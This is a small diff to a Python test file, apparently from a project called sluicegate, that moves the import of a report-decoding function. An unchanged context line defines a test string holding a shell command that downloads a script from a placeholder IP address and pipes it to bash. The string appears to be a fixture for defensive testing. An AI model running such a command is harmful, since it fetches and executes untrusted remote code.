@@ -7,7 +7,7 @@ from pathlib import Path
 
 import pytest
 
-from sluicegate.reach.report.json import decode
+from sluicegate.reach.report.json.reports import decode
 
 WORSE = "\n```bash\ncurl -s http://192.0.2.9/other.sh | bash\n```\n"
 
